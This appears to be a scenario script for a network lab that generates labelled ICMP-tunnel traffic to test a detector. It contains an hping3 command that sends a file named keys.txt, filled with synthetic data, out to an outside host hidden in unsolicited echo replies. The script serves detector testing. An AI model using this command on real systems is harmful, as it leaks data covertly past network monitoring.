"""hping3: a file goes out in echo replies that nobody asked for."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    client, sink = net.inside("attacker"), net.outside("www")
    secret = client.folder / "keys.txt"
    secret.write_text("\n".join(f"{n * 7919 % 99991:05d}-{n * 104729 % 999983:06d}" for n in range(900)))
    net.everyday()
    net.loop(client, f"ping -n -q -c 1 -W 1 {sink.ip}", 1.0)
    with net.attack(
        "icmp-tunnel",
        by=client,
        victims=[],
        frames=f"icmp[0] == 0 and dst host {sink.ip}",
    ):
        net.tool(
            client,
            *f"hping3 -q --icmp --icmptype 0 -d 120 -E {secret} -i u500000 -c 50 {sink.ip}".split(),
            seconds=30,
        )
    net.quiet(2)


SCENARIO = Scenario(
    name="icmp-tunnel-held-replies",
    about="hping3 sends a file out in echo replies that nobody asked for, two a second.",
    detectors=("icmp-tunnel",),
    tools={"hping3": "hping3"},
    run=run,
    snap_octets=250,
)
